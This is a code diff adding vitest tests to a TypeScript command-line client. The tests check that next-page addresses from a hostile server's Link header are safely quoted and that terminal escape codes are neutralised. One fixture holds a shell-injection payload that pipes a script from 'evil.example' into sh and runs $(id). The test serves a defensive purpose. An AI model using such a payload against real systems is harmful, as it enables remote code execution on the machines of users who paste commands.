@@ -1,5 +1,12 @@
 import { describe, expect, it } from 'vitest'
-import { parseWords, printHelp, UsageError } from '../../../client/typescript/commands.ts'
+import { findNextAddress } from '../../../client/typescript/address.ts'
+import {
+  parseWords,
+  printHelp,
+  UsageError,
+  writeForTerminal,
+  writeNextCommand,
+} from '../../../client/typescript/commands.ts'
 import { endpoints } from '../../../schemas/service/endpoints.ts'
 
 const ask = (line: string) => parseWords(line.split(' ').filter(Boolean))
@@ -58,5 +65,21 @@ describe('the words of brmd', () => {
       'get /v1/funds?q=1&q=2',
     ]
     for (const line of wrong) expect(() => ask(line), line).toThrow(UsageError)
+  })
+})
+
+describe('what a server that lies says', () => {
+  it('is one word of the command that a reader copies, whatever the next address is', () => {
+    const link = `</v1/funds';curl$IFS'evil.example'|sh;'?q='$(id)'>; rel="next"`
+    const address = findNextAddress(new Response('', { headers: { link } })) ?? ''
+
+    expect(address).toContain("';curl")
+    expect(writeNextCommand(address).split("'")).toEqual(['brmd get ', expect.stringContaining('/v1/funds%27;'), ''])
+  })
+
+  it('moves no cursor of a terminal, and hides nothing there', () => {
+    expect(writeForTerminal('not_found: \u001b[2Jnothing\r\n\u0007')).toBe(
+      'not_found: \uFFFD[2Jnothing\uFFFD\uFFFD\uFFFD',
+    )
   })
 })
